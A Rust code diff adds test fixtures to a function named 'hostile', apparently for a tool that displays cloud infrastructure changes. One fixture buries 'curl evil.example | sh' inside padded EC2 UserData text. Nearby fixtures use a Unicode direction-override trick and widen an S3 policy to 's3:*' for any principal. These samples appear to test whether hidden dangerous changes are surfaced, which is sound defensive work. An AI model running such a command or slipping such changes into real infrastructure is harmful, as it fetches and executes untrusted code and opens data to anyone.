@@ -596,6 +596,7 @@ pub(super) fn secrets() -> Script {
         details: vec![
             detail("MasterUserPassword", "****", "**** (changed)"),
             ChangeDetail {
+                source: Some("ParameterReference".to_owned()),
                 causing_entity: Some("Window".to_owned()),
                 ..detail(
                     "PreferredMaintenanceWindow",
@@ -620,6 +621,10 @@ pub(super) fn hostile() -> Script {
             "{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"{middle}\",\"Resource\":\"arn:aws:s3:::bucket-with-a-long-name/*\"}}]}}"
         )
     };
+    let script_text = |middle: &str| {
+        let before = "echo this script does many things before anything is of interest; ".repeat(3);
+        format!("{before}{middle}; {before}")
+    };
     let changes = vec![
         ResourceChange {
             replacement: Replacement::May,
@@ -631,6 +636,11 @@ pub(super) fn hostile() -> Script {
                     "e\u{202e}lbisreve\u{200b}r",
                 ),
                 detail("PolicyDocument", &long("s3:GetObject"), &long("s3:*")),
+                detail(
+                    "UserData",
+                    &script_text("install agent 1.0"),
+                    &script_text("curl evil.example | sh"),
+                ),
                 ChangeDetail {
                     recreation: Recreation::Conditionally,
                     evaluation: Some(Evaluation::Dynamic),
